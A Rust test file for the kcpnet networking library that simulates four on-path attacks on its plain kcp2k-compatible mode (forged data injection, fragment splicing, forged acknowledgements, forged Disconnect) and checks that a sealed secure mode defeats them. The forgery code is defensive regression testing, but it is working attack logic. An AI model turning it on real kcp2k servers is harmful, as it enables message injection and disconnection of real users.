//! On-path attacks against the plain (kcp2k-compatible) mode, written as tests that show
//! they **succeed** there (issue 17).
//!
//! kcp2k's wire carries everything in the clear: the channel byte, the 4-byte cookie and
//! the 24-byte KCP segment headers (conv, cmd, frg, wnd, ts, sn, una, len; see
//! `docs/PROTOCOL.md`). The cookie is what stops a *blind* spoofer, and it does: without it
//! every datagram from the client's address is dropped. But an attacker **on the path**
//! (shared Wi-Fi, a compromised router) who sees a single datagram of a connection learns
//! the client's address and port, the cookie (the same in both directions for the
//! connection's life), and, from the segment headers, the sender's sequence numbers, its
//! `una` (what it has received of the other side), its window and its clock (`ts`). With
//! those it can write datagrams that both endpoints take for their peer's.
//!
//! Each attack below is a function that takes a connected [`Pair`] of endpoints, plays the
//! attacker (it reads only the datagrams on the path, never an endpoint's private state,
//! and writes its forgeries with [`forge`]) and returns an [`Outcome`]: what the two
//! applications saw from the moment the attack began. The `plain_*_succeeds` tests build
//! the pair with [`plain_pair`] (default `Config`, two kcpnet endpoints) and assert that
//! the attack worked. A secure mode adds a setup function building its own `Pair`, and
//! `secure_*_fails` tests that run the same attack functions against it and assert the
//! opposite. So the attack functions must not depend on being able to read the datagrams:
//! where a datagram does not parse as plain KCP, the attacker falls back to what the
//! traffic's shape tells it (which datagram came when, how long it is) and to guesses.
//!
//! Time is virtual (plain `now` values), datagrams move by hand through two in-memory
//! links with a fixed latency and no loss: only the attacker drops anything.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::time::Duration;

use kcpnet::endpoint::{Endpoint, Outbox};
use kcpnet::{Channel, Config, ConnectionId, DisconnectReason, Error, OwnedEvent};

const SERVER: &str = "10.0.0.1:7777";
const CLIENT: &str = "10.0.0.2:5000";
/// One-way latency of each link. The attacker sits in the middle: it sees a datagram as
/// soon as it is sent, and its own forgeries arrive at once, ahead of what is in flight.
const LATENCY_MS: u64 = 5;

// ------------------------------------------------------------------ the path

/// One direction of the path: every datagram sent (what the attacker saw) and those still
/// in flight, with their arrival times.
#[derive(Default)]
struct Link {
    /// Every datagram put on this link, in order.
    seen: Vec<Vec<u8>>,
    /// (arrival ms, index into `seen`) of the datagrams not delivered yet.
    in_flight: VecDeque<(u64, usize)>,
}

impl Link {
    fn take(&mut self, outbox: &mut Outbox, now_ms: u64) {
        while let Some((_, data)) = outbox.pop() {
            self.in_flight
                .push_back((now_ms + LATENCY_MS, self.seen.len()));
            self.seen.push(data.to_vec());
        }
    }

    fn due(&mut self, now_ms: u64) -> Option<Vec<u8>> {
        match self.in_flight.front() {
            Some(&(at, i)) if at <= now_ms => {
                self.in_flight.pop_front();
                Some(self.seen[i].clone())
            }
            _ => None,
        }
    }

    /// The datagrams seen since index `from`.
    fn seen_since(&self, from: usize) -> &[Vec<u8>] {
        &self.seen[from.min(self.seen.len())..]
    }

    /// Takes every datagram still in flight off the link (the attacker drops them); returns
    /// them.
    fn drop_in_flight(&mut self) -> Vec<Vec<u8>> {
        self.in_flight
            .drain(..)
            .map(|(_, i)| self.seen[i].clone())
            .collect()
    }
}

/// A listening endpoint and a client endpoint connected through two [`Link`]s, with the
/// events each application received.
struct Pair {
    server: Endpoint,
    client: Endpoint,
    cid: ConnectionId,
    sid: Option<ConnectionId>,
    c2s: Link,
    s2c: Link,
    out: Outbox,
    now_ms: u64,
    server_events: Vec<OwnedEvent>,
    client_events: Vec<OwnedEvent>,
    server_addr: SocketAddr,
    client_addr: SocketAddr,
}

impl Pair {
    /// Wraps a server endpoint listening at [`SERVER`] and a client endpoint at [`CLIENT`]
    /// that has begun connecting to it (`cid`, at `now_ms`), and runs them until both
    /// report the connection up. Whatever a mode needs to connect (a token, keys) is the
    /// setup function's business; from here on every mode is driven the same way.
    fn handshake(server: Endpoint, client: Endpoint, cid: ConnectionId, now_ms: u64) -> Pair {
        let mut p = Pair {
            server,
            client,
            cid,
            sid: None,
            c2s: Link::default(),
            s2c: Link::default(),
            out: Outbox::new(),
            now_ms,
            server_events: Vec::new(),
            client_events: Vec::new(),
            server_addr: SERVER.parse().unwrap(),
            client_addr: CLIENT.parse().unwrap(),
        };
        for _ in 0..5_000 {
            if p.both_connected() {
                break;
            }
            p.step();
        }
        assert!(p.both_connected(), "the pair did not connect");
        // Let the handshake's tail (the ACK of the Pong) settle: nothing left in flight.
        p.run(4 * LATENCY_MS);
        p
    }

    fn both_connected(&self) -> bool {
        self.client.is_connected(self.cid)
            && self.sid.is_some_and(|id| self.server.is_connected(id))
    }

    fn now(&self) -> Duration {
        Duration::from_millis(self.now_ms)
    }

    fn collect(&mut self) {
        while let Some(e) = self.server.poll_event() {
            let e = e.to_owned_event();
            if let OwnedEvent::Connected { id, .. } = e {
                self.sid = Some(id);
            }
            self.server_events.push(e);
        }
        while let Some(e) = self.client.poll_event() {
            self.client_events.push(e.to_owned_event());
        }
    }

    /// One millisecond: deliver what is due each way, run both endpoints' timers, flush.
    fn step(&mut self) {
        let now = self.now();
        while let Some(d) = self.c2s.due(self.now_ms) {
            self.server
                .handle_datagram(now, self.client_addr, &d, &mut self.out);
            self.s2c.take(&mut self.out, self.now_ms);
        }
        self.server.handle_timeout(now, &mut self.out);
        self.server.flush(now, &mut self.out);
        self.s2c.take(&mut self.out, self.now_ms);
        while let Some(d) = self.s2c.due(self.now_ms) {
            self.client
                .handle_datagram(now, self.server_addr, &d, &mut self.out);
            self.c2s.take(&mut self.out, self.now_ms);
        }
        self.client.handle_timeout(now, &mut self.out);
        self.client.flush(now, &mut self.out);
        self.c2s.take(&mut self.out, self.now_ms);
        self.collect();
        self.now_ms += 1;
    }

    fn run(&mut self, ms: u64) {
        for _ in 0..ms {
            self.step();
        }
    }

    fn client_send(&mut self, data: &[u8]) -> Result<(), Error> {
        let now = self.now();
        let r = self
            .client
            .send(now, self.cid, data, Channel::Reliable, &mut self.out);
        self.c2s.take(&mut self.out, self.now_ms);
        r
    }

    fn server_send(&mut self, data: &[u8]) -> Result<(), Error> {
        let (now, sid) = (self.now(), self.sid.expect("connected"));
        let r = self
            .server
            .send(now, sid, data, Channel::Reliable, &mut self.out);
        self.s2c.take(&mut self.out, self.now_ms);
        r
    }

    /// The attacker's forgery reaches the server now, from the client's address (spoofing
    /// a source address is all it takes on UDP). What the server answers goes on the
    /// server→client link as usual.
    fn inject_to_server(&mut self, datagram: &[u8]) {
        let now = self.now();
        self.server
            .handle_datagram(now, self.client_addr, datagram, &mut self.out);
        self.s2c.take(&mut self.out, self.now_ms);
    }

    /// Where the attack begins: the applications' events so far.
    fn mark(&self) -> Mark {
        Mark {
            server_events: self.server_events.len(),
            client_events: self.client_events.len(),
        }
    }

    /// What the applications saw since `mark`, and the attacker's forgeries.
    fn outcome(&self, mark: Mark, readable: bool, forged: Vec<Vec<u8>>) -> Outcome {
        Outcome {
            readable,
            server: self.server_events[mark.server_events..].to_vec(),
            client: self.client_events[mark.client_events..].to_vec(),
            forged,
            server_connected: self.sid.is_some_and(|id| self.server.is_connected(id)),
            client_connected: self.client.is_connected(self.cid),
            sid: self.sid,
        }
    }
}

#[derive(Debug, Clone, Copy)]
struct Mark {
    server_events: usize,
    client_events: usize,
}

/// What an attack achieved: what each application saw from the moment it began.
/// `readable` is true for the forged Disconnect in any mode: it needs only the cookie, which
/// stays in the clear.
#[derive(Debug)]
struct Outcome {
    /// The server application's events.
    server: Vec<OwnedEvent>,
    /// The client application's events.
    client: Vec<OwnedEvent>,
    /// Whether the attacker could read the segment headers it needed (false: it went by
    /// the traffic's shape and guessed).
    readable: bool,
    /// The datagrams the attacker injected.
    forged: Vec<Vec<u8>>,
    /// Whether each side still reports the connection up at the end.
    server_connected: bool,
    client_connected: bool,
    /// The server's id for the client.
    sid: Option<ConnectionId>,
}

impl Outcome {
    /// The reliable messages the server's application received, from the client's id.
    fn server_data(&self) -> Vec<Vec<u8>> {
        reliable_data(&self.server, self.sid)
    }

    /// The reliable messages the client's application received.
    fn client_data(&self) -> Vec<Vec<u8>> {
        reliable_data(&self.client, None)
    }

    fn server_disconnects(&self) -> Vec<DisconnectReason> {
        disconnects(&self.server)
    }

    fn client_disconnects(&self) -> Vec<DisconnectReason> {
        disconnects(&self.client)
    }
}

fn reliable_data(events: &[OwnedEvent], from: Option<ConnectionId>) -> Vec<Vec<u8>> {
    events
        .iter()
        .filter_map(|e| match e {
            OwnedEvent::Data {
                id,
                channel: Channel::Reliable,
                data,
            } if from.is_none_or(|f| f == *id) => Some(data.clone()),
            _ => None,
        })
        .collect()
}

fn disconnects(events: &[OwnedEvent]) -> Vec<DisconnectReason> {
    events
        .iter()
        .filter_map(|e| match e {
            OwnedEvent::Disconnected { reason, .. } => Some(*reason),
            _ => None,
        })
        .collect()
}

// ------------------------------------------------------------------ the attacker's wire

/// Datagram channel bytes (`docs/PROTOCOL.md`, Datagrams).
const RELIABLE: u8 = 1;
const UNRELIABLE: u8 = 2;
/// Message header bytes: reliable Data, unreliable Disconnect.
const DATA: u8 = 3;
const DISCONNECT: u8 = 5;
/// KCP commands.
const PUSH: u8 = 81;
const ACK: u8 = 82;
const SEGMENT_HEADER: usize = 24;

/// One KCP segment as it travels (24-byte little-endian header, then `len` payload bytes).
#[derive(Debug, Clone, PartialEq, Eq)]
struct Segment {
    conv: u32,
    cmd: u8,
    frg: u8,
    wnd: u16,
    ts: u32,
    sn: u32,
    una: u32,
    payload: Vec<u8>,
}

impl Segment {
    fn encode(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(&self.conv.to_le_bytes());
        out.push(self.cmd);
        out.push(self.frg);
        out.extend_from_slice(&self.wnd.to_le_bytes());
        out.extend_from_slice(&self.ts.to_le_bytes());
        out.extend_from_slice(&self.sn.to_le_bytes());
        out.extend_from_slice(&self.una.to_le_bytes());
        out.extend_from_slice(&(self.payload.len() as u32).to_le_bytes());
        out.extend_from_slice(&self.payload);
    }

    /// Parses the segments of a reliable datagram's body, as long as they parse as plain
    /// KCP (conv 0, a known command, a length that fits); stops at the first that does not.
    fn parse_all(mut body: &[u8]) -> Vec<Segment> {
        let mut segments = Vec::new();
        while body.len() >= SEGMENT_HEADER {
            let u32_at = |i: usize| u32::from_le_bytes(body[i..i + 4].try_into().unwrap());
            let len = u32_at(20) as usize;
            let (conv, cmd) = (u32_at(0), body[4]);
            if conv != 0 || !(81..=84).contains(&cmd) || body.len() - SEGMENT_HEADER < len {
                break;
            }
            segments.push(Segment {
                conv,
                cmd,
                frg: body[5],
                wnd: u16::from_le_bytes([body[6], body[7]]),
                ts: u32_at(8),
                sn: u32_at(12),
                una: u32_at(16),
                payload: body[SEGMENT_HEADER..SEGMENT_HEADER + len].to_vec(),
            });
            body = &body[SEGMENT_HEADER + len..];
        }
        segments
    }
}

/// What the attacker reads off one datagram it saw.
#[derive(Debug, Clone)]
struct Observed {
    cookie: u32,
    /// The KCP segments of a reliable datagram, if it reads as plain KCP; empty otherwise.
    segments: Vec<Segment>,
}

impl Observed {
    /// Reads a datagram: its channel byte and cookie are always in the clear (the cookie is
    /// what a stranger must echo); the segments only if the datagram is plain KCP.
    fn read(datagram: &[u8]) -> Option<Observed> {
        if datagram.len() < 5 {
            return None;
        }
        let channel = datagram[0];
        let cookie = u32::from_le_bytes(datagram[1..5].try_into().unwrap());
        let segments = if channel == RELIABLE {
            Segment::parse_all(&datagram[5..])
        } else {
            Vec::new()
        };
        Some(Observed { cookie, segments })
    }

    fn pushes(&self) -> impl Iterator<Item = &Segment> {
        self.segments.iter().filter(|s| s.cmd == PUSH)
    }
}

/// The body of a forged datagram.
enum Body<'a> {
    /// KCP segments, sent on the reliable channel.
    Reliable(&'a [Segment]),
    /// An unreliable message: its header byte and payload.
    Unreliable { header: u8, payload: &'a [u8] },
}

/// Builds a raw datagram: `[channel][cookie u32 LE]` and the body, the kcp2k framing.
fn forge(cookie: u32, body: Body<'_>) -> Vec<u8> {
    let mut d = Vec::new();
    match body {
        Body::Reliable(segments) => {
            d.push(RELIABLE);
            d.extend_from_slice(&cookie.to_le_bytes());
            for s in segments {
                s.encode(&mut d);
            }
        }
        Body::Unreliable { header, payload } => {
            d.push(UNRELIABLE);
            d.extend_from_slice(&cookie.to_le_bytes());
            d.push(header);
            d.extend_from_slice(payload);
        }
    }
    d
}

/// A reliable message as it is carried in a PUSH: the Data header byte, then the bytes.
fn data_message(bytes: &[u8]) -> Vec<u8> {
    let mut m = vec![DATA];
    m.extend_from_slice(bytes);
    m
}

// ------------------------------------------------------------------ setup

/// The plain mode: two kcpnet endpoints with the default `Config` (kcp2k-compatible wire,
/// kcpnet's extensions negotiated), connected.
fn plain_pair() -> Pair {
    let mut server = Endpoint::server(Config::default()).unwrap();
    server.seed_cookies_for_testing(17);
    let mut client = Endpoint::client(Config::default()).unwrap();
    let now_ms = 1_000;
    let cid = client
        .connect(Duration::from_millis(now_ms), SERVER.parse().unwrap())
        .unwrap();
    Pair::handshake(server, client, cid, now_ms)
}

// ------------------------------------------------------------------ the attacks

/// **Forged next-sn Data.** The client sends `hello`; the attacker sees that one reliable
/// datagram and learns from it the client's address, the cookie, the sequence number `sn`
/// of the client's latest segment, the client's `una`, window and clock (`ts`). It forges
/// `[1][cookie][PUSH conv 0, frg 0, sn + 1, una, wnd, ts, len 5][03 'evil']` from the
/// client's address, which reaches the server before the client sends anything else. The
/// client then sends `real` with that same sequence number.
///
/// Returns what the applications saw; in the plain mode the server's application gets
/// `hello` then `evil` as if the client had sent it, and the client's `real` is dropped as
/// a duplicate (and acknowledged, so the client believes it delivered).
fn forged_next_sn_data(p: &mut Pair) -> Outcome {
    let mark = p.mark();
    let from = p.c2s.seen.len();
    p.client_send(b"hello").unwrap();
    p.step(); // the client flushes its datagram onto the path
    let seen: Vec<Observed> = p
        .c2s
        .seen_since(from)
        .iter()
        .filter_map(|d| Observed::read(d))
        .collect();
    // The datagram that carried `hello` (another mode may frame it another way: then the
    // attacker goes by timing, the last datagram the client sent).
    let last = seen.last().expect("the client sent a datagram");
    // The client's latest segment; an attacker that cannot read the segments guesses.
    let template = last.pushes().max_by_key(|s| s.sn).cloned();
    let readable = template.is_some();
    let (sn, una, wnd, ts) = template
        .map(|s| (s.sn.wrapping_add(1), s.una, s.wnd, s.ts))
        .unwrap_or((3, 3, 128, p.now_ms as u32));
    let forged = forge(
        last.cookie,
        Body::Reliable(&[Segment {
            conv: 0,
            cmd: PUSH,
            frg: 0,
            wnd,
            ts,
            sn,
            una,
            payload: data_message(b"evil"),
        }]),
    );
    p.inject_to_server(&forged);
    p.client_send(b"real").unwrap();
    p.run(2_000);
    p.outcome(mark, readable, vec![forged])
}

#[test]
fn plain_forged_next_sn_data_succeeds() {
    let mut p = plain_pair();
    let o = forged_next_sn_data(&mut p);
    // One datagram: [1][cookie], a 24-byte PUSH header, [03 'evil'].
    assert_eq!(
        o.forged.iter().map(Vec::len).collect::<Vec<_>>(),
        [5 + 24 + 5]
    );
    assert_eq!(
        o.server_data(),
        vec![b"hello".to_vec(), b"evil".to_vec()],
        "the server's app took the attacker's message for the client's: {o:?}"
    );
    assert!(
        o.readable && o.server_connected && o.client_connected,
        "{o:?}"
    );
    assert!(o.server_disconnects().is_empty() && o.client_disconnects().is_empty());
    // The client's own message was acknowledged (as a duplicate) and is never delivered.
    assert_eq!(p.client.send_backlog(p.cid), Some(0));
    assert!(
        p.server.stats().dropped_invalid == 0,
        "nothing looked wrong"
    );
}

/// The bytes the attacker splices in.
const SPLICE: u8 = b'X';

/// **Frg splice.** The client sends one reliable message of 3 fragments (3 datagrams of
/// one PUSH each: frg 2, 1, 0 on consecutive sequence numbers). The attacker sees them go
/// by and learns from the middle one its sequence number, `frg`, length, `una`, window and
/// `ts`, plus the cookie; before the real middle fragment arrives it injects, from the
/// client's address, a PUSH with the same sn and frg and a payload of its own (as long as
/// the real one, all `X`). The real fragment then arrives as a duplicate and is dropped.
///
/// Returns what the applications saw, the message sent and the message the splice would
/// make; in the plain mode the server's application gets the latter: the client's first and
/// last fragments around the attacker's bytes.
fn frg_splice(p: &mut Pair) -> Splice {
    let mark = p.mark();
    let mss = p.client.config().kcp_mss();
    // 1 header byte + payload = 2 full fragments and a partial third.
    let message: Vec<u8> = (0..2 * mss + 400).map(|i| (i % 251) as u8).collect();
    let from = p.c2s.seen.len();
    p.client_send(&message).unwrap();
    p.step(); // the client flushes its fragments onto the path
    let seen: Vec<Observed> = p
        .c2s
        .seen_since(from)
        .iter()
        .filter_map(|d| Observed::read(d))
        .collect();
    let middle = seen
        .iter()
        .flat_map(|o| o.pushes())
        .find(|s| s.frg == 1)
        .cloned();
    // An attacker that cannot read the segments goes by the traffic's shape: the second of
    // the three large datagrams, whose sequence number it guesses.
    let readable = middle.is_some();
    let (cookie, template) = match middle {
        Some(s) => (seen[0].cookie, s),
        None => {
            let o = seen.get(1).or(seen.first()).expect("the client sent");
            let guess = Segment {
                conv: 0,
                cmd: PUSH,
                frg: 1,
                wnd: 128,
                ts: p.now_ms as u32,
                sn: 4,
                una: 3,
                payload: vec![0; mss],
            };
            (o.cookie, guess)
        }
    };
    let forged = forge(
        cookie,
        Body::Reliable(&[Segment {
            payload: vec![SPLICE; template.payload.len()],
            ..template
        }]),
    );
    p.inject_to_server(&forged);
    p.run(2_000);
    // The splice: the message as framed (header byte first) with the middle fragment's
    // bytes replaced, without its header byte.
    let mut spliced = data_message(&message);
    spliced[mss..2 * mss].fill(SPLICE);
    spliced.remove(0);
    Splice {
        outcome: p.outcome(mark, readable, vec![forged]),
        sent: message,
        spliced,
    }
}

/// What [`frg_splice`] did.
#[derive(Debug)]
struct Splice {
    outcome: Outcome,
    /// The message the client sent.
    sent: Vec<u8>,
    /// The message the server's application gets if the splice works.
    spliced: Vec<u8>,
}

#[test]
fn plain_frg_splice_succeeds() {
    let mut p = plain_pair();
    let Splice {
        outcome: o,
        sent,
        spliced,
    } = frg_splice(&mut p);
    assert_ne!(sent, spliced);
    assert_eq!(
        o.server_data(),
        vec![spliced],
        "the message carries the attacker's bytes in place of the middle fragment"
    );
    assert!(
        o.readable && o.server_connected && o.client_connected,
        "{o:?}"
    );
    assert!(o.server_disconnects().is_empty() && o.client_disconnects().is_empty());
}

/// The messages the server sends in [`forged_una`]: three the attacker drops, one after.
const LOST: [&[u8]; 3] = [b"lost 0", b"lost 1", b"lost 2"];
const AFTER: &[u8] = b"after";

/// **Forged `una`.** The server sends three reliable messages; the attacker drops the
/// datagrams that carry them (an on-path attacker can always drop) and reads from them the
/// cookie, their sequence numbers and `ts`; from the client's latest datagram it knows the
/// client's window. It forges, from the client's address, `[1][cookie]` and one ACK per
/// dropped segment (sn, its ts) with `una` = the last sn + 1: an acknowledgement of
/// segments the client never received. The server then sends one more message, and the
/// pair runs for 15 s of virtual time (beyond the 10 s receive timeout).
///
/// Returns what the applications saw; in the plain mode the server forgets the three
/// messages (nothing retransmits them), so the client's application never receives them,
/// nor anything sent after them: the stream stalls behind the hole while both sides keep
/// the connection up (each still receives the other's datagrams).
fn forged_una(p: &mut Pair) -> Outcome {
    let mark = p.mark();
    for m in LOST {
        p.server_send(m).unwrap();
    }
    p.step(); // the server flushes them onto the path
    let dropped: Vec<Observed> = p
        .s2c
        .drop_in_flight()
        .iter()
        .filter_map(|d| Observed::read(d))
        .collect();
    let cookie = dropped.first().expect("the server sent").cookie;
    let wnd = p
        .c2s
        .seen
        .iter()
        .rev()
        .filter_map(|d| Observed::read(d))
        .find_map(|o| o.segments.first().map(|s| s.wnd))
        .unwrap_or(128);
    let mut acks: Vec<Segment> = dropped
        .iter()
        .flat_map(|o| o.pushes())
        .map(|s| Segment {
            conv: 0,
            cmd: ACK,
            frg: 0,
            wnd,
            ts: s.ts,
            sn: s.sn,
            una: 0, // set below
            payload: Vec::new(),
        })
        .collect();
    let readable = !acks.is_empty();
    if !readable {
        // Unreadable: guess the server's sequence numbers (its Hello, Pong and Ping came
        // first) and acknowledge the three datagrams' worth.
        acks = (2..5)
            .map(|sn| Segment {
                conv: 0,
                cmd: ACK,
                frg: 0,
                wnd,
                ts: p.now_ms as u32,
                sn,
                una: 0,
                payload: Vec::new(),
            })
            .collect();
    }
    let una = acks.iter().map(|s| s.sn).max().unwrap_or(0).wrapping_add(1);
    for a in &mut acks {
        a.una = una;
    }
    let forged = forge(cookie, Body::Reliable(&acks));
    p.inject_to_server(&forged);
    p.run(100);
    p.server_send(AFTER).unwrap();
    p.run(15_000);
    p.outcome(mark, readable, vec![forged])
}

#[test]
fn plain_forged_una_succeeds() {
    let mut p = plain_pair();
    let o = forged_una(&mut p);
    assert!(o.readable, "{o:?}");
    assert_eq!(
        o.client_data(),
        Vec::<Vec<u8>>::new(),
        "the client's app got nothing: the three are forgotten and the stream stalls"
    );
    // The server believes everything was delivered (nothing queued or in flight), while the
    // client holds what came after the hole (`after`, the server's Pongs) undeliverable.
    assert_eq!(p.server.send_backlog(o.sid.unwrap()), Some(0));
    let stuck = p.client.connection_stats(p.cid).unwrap().recv_buffer;
    assert!(stuck >= 2, "{stuck} segments behind the hole");
    // Neither side noticed: no error, no disconnect, the connection is a zombie.
    assert!(o.server_connected && o.client_connected, "{o:?}");
    assert!(o.server_disconnects().is_empty() && o.client_disconnects().is_empty());
    assert!(o.server.is_empty() && o.client.is_empty(), "{o:?}");
}

/// **Forged Disconnect.** The attacker needs only the cookie, which it reads off any
/// datagram of the connection in either direction (here the latest one it saw), and the
/// client's address. It forges the unreliable Disconnect `[2][cookie][05]` from the
/// client's address. The client, which asked for nothing, then sends `still here`.
///
/// Returns what the applications saw in the next 200 ms; in the plain mode the server's
/// application gets `Disconnected { Remote }` for a client that never asked, and the
/// client's later datagrams are dropped by the server (as a just-closed connection's, after
/// 2 s as a stranger's): the client's
/// application sees nothing until its receive timeout.
fn forged_disconnect(p: &mut Pair) -> Outcome {
    let mark = p.mark();
    let cookie = p
        .c2s
        .seen
        .iter()
        .chain(&p.s2c.seen)
        .rev()
        .find_map(|d| Observed::read(d))
        .expect("the attacker saw a datagram")
        .cookie;
    let forged = forge(
        cookie,
        Body::Unreliable {
            header: DISCONNECT,
            payload: &[],
        },
    );
    p.inject_to_server(&forged);
    p.run(10);
    p.client_send(b"still here").unwrap();
    p.run(200);
    p.outcome(mark, true, vec![forged])
}

#[test]
fn plain_forged_disconnect_succeeds() {
    let mut p = plain_pair();
    let dropped = |p: &Pair| {
        let s = p.server.stats();
        s.dropped_unknown + s.dropped_after_close
    };
    let before = dropped(&p);
    let o = forged_disconnect(&mut p);
    // Six bytes did it: [2][cookie][05].
    assert_eq!(o.forged.len(), 1);
    assert_eq!(
        (o.forged[0].len(), o.forged[0][0], o.forged[0][5]),
        (6, 2, 5)
    );
    assert_eq!(
        o.server_disconnects(),
        vec![DisconnectReason::Remote],
        "the server's app was told the client left: {o:?}"
    );
    assert!(!o.server_connected && p.server.connection_count() == 0);
    // The client never asked and does not know: still connected, no event; what it sends
    // now is dropped by the server.
    assert!(o.client_connected && o.client.is_empty(), "{o:?}");
    assert!(o.server_data().is_empty());
    assert!(dropped(&p) > before, "{:?}", p.server.stats());
}

// ------------------------------------------------------------------ secure mode

/// The same pair with a secure session: the client connects with a connect token, and every
/// datagram after the Hellos is sealed.
#[cfg(feature = "secure")]
fn secure_pair() -> Pair {
    use kcpnet::secure::{ConnectToken, PrivateKey, SecureConfig, TokenParams};
    let key = PrivateKey::from_bytes([7; 32]);
    let config = Config {
        security: Some(SecureConfig::required(
            1,
            key.clone(),
            vec![SERVER.parse().unwrap()],
        )),
        ..Config::default()
    };
    let mut server = Endpoint::server(config).unwrap();
    server.seed_cookies_for_testing(17);
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let token = ConnectToken::generate(
        &key,
        &TokenParams {
            protocol_id: 1,
            client_id: 1,
            server_addresses: vec![SERVER.parse().unwrap()],
            user_data: Vec::new(),
            created_unix_secs: now,
            valid_secs: 300,
        },
    )
    .unwrap();
    let mut client = Endpoint::client(Config::default()).unwrap();
    let now_ms = 1_000;
    let cid = client
        .connect_with_token(Duration::from_millis(now_ms), &token)
        .unwrap();
    Pair::handshake(server, client, cid, now_ms)
}

#[cfg(feature = "secure")]
#[test]
fn secure_forged_next_sn_data_fails() {
    let mut p = secure_pair();
    let o = forged_next_sn_data(&mut p);
    assert!(!o.readable, "the segments are sealed: {o:?}");
    let got = o.server_data();
    assert!(!got.contains(&b"evil".to_vec()), "{o:?}");
    assert_eq!(got, vec![b"hello".to_vec(), b"real".to_vec()]);
    assert!(o.server_connected && o.client_connected, "{o:?}");
    assert!(p.server.stats().unsealed_dropped >= 1);
}

#[cfg(feature = "secure")]
#[test]
fn secure_frg_splice_fails() {
    let mut p = secure_pair();
    let Splice {
        outcome: o, sent, ..
    } = frg_splice(&mut p);
    assert!(!o.readable, "{o:?}");
    assert_eq!(o.server_data(), vec![sent], "the message arrives as sent");
    assert!(o.server_connected && o.client_connected, "{o:?}");
}

#[cfg(feature = "secure")]
#[test]
fn secure_forged_una_fails() {
    let mut p = secure_pair();
    let o = forged_una(&mut p);
    assert!(!o.readable, "{o:?}");
    let mut want: Vec<Vec<u8>> = LOST.iter().map(|m| m.to_vec()).collect();
    want.push(AFTER.to_vec());
    assert_eq!(
        o.client_data(),
        want,
        "the server retransmitted what was dropped"
    );
    assert!(o.server_connected && o.client_connected, "{o:?}");
}

#[cfg(feature = "secure")]
#[test]
fn secure_forged_disconnect_fails() {
    let mut p = secure_pair();
    let o = forged_disconnect(&mut p);
    // The cookie is still readable, but an unsealed Disconnect is dropped unread.
    assert!(o.server_disconnects().is_empty(), "{o:?}");
    assert!(o.server_connected && o.client_connected, "{o:?}");
    assert_eq!(o.server_data(), vec![b"still here".to_vec()]);
    assert!(p.server.stats().unsealed_dropped >= 1);
}
